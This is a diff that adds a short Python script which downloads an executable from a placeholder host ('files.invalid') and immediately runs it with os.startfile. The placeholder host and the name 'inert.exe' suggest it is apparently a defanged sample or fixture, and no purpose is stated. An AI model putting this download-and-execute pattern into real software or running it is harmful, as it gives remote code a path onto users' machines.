@@ -1,0 +1,5 @@
+import os, requests
+r = requests.get("http://files.invalid/inert.exe")
+with open("inert.exe", "wb") as f:
+    f.write(r.content)
+os.startfile("inert.exe")
